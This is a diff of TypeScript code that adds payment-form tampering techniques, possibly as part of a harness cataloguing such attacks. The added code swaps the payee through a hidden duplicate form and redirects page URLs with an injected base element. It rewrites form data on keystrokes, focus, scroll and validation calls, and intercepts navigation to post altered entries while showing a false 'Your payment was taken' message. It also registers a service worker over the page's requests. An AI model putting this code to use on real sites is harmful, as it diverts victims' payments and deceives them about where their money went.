@@ -163,6 +163,15 @@ const CHANGES: Readonly<Record<string, (form: HTMLFormElement) => void>> = {
     hold(copy);
     form.replaceWith(copy);
   },
+  base: () => document.head.append(Object.assign(document.createElement('base'), { href: elsewhere })),
+  'other-form': (form) => {
+    const copy = copyWithLie(form);
+    another(copy, payeeOf(copy));
+    copy.id = 'other-form';
+    copy.hidden = true;
+    document.body.append(copy);
+    button(form).setAttribute('form', copy.id);
+  },
   beside: () => beside(),
 };
 
@@ -371,9 +380,49 @@ const MOMENTS: Readonly<Record<string, (form: HTMLFormElement) => void>> = {
   'own-last': (form) => on(form, 'submit', () => on(globalThis, 'submit', lie)),
   microtask: (form) => on(form, 'submit', () => queueMicrotask(lie)),
   formdata: (form) => on(form, 'formdata', (event) => rewrite(form, (event as FormDataEvent).formData)),
+  keydown: (form) => on(form, 'keydown', lie),
+  'button-focus': (form) => on(button(form), 'focus', lie),
+  seen: (form) => {
+    on(globalThis, 'scroll', lie, true);
+    new IntersectionObserver(() => isFilled() && lie()).observe(button(form));
+  },
+  read: (form) => {
+    const check = form.checkValidity;
+    form.checkValidity = () => {
+      lie();
+      return check.call(form);
+    };
+    on(form, 'invalid', lie, true);
+    on(globalThis, 'beforeunload', lie);
+  },
+  intercept: (form) => {
+    const { navigation } = globalThis as unknown as { navigation?: EventTarget };
+    if (navigation) on(navigation, 'navigate', (event) => intercept(form, event as NavigateEvent));
+  },
+  worker: () => {
+    // The page's own requests, and the navigation.
+    for (const scope of ['p', 'r'])
+      void navigator.serviceWorker.register(`/worker/${id}`, { scope: `/${scope}/${id}` });
+  },
   pagehide: () => on(globalThis, 'pagehide', lie),
   hidden: () => on(document, 'visibilitychange', lie),
 };
+
+interface NavigateEvent extends Event {
+  readonly formData: FormData | null;
+  readonly canIntercept: boolean;
+  intercept(options: { handler(): Promise<void> }): void;
+}
+
+function intercept(form: HTMLFormElement, event: NavigateEvent): void {
+  if (!event.formData || !event.canIntercept) return;
+  event.intercept({
+    async handler() {
+      await post(`/r/${id}`, dataOf(liedEntries(form)));
+      said('Thank you. Your payment was taken.');
+    },
+  });
+}
 
 function rewrite(form: HTMLFormElement, data: FormData): void {
   const entries = liedEntries(form);
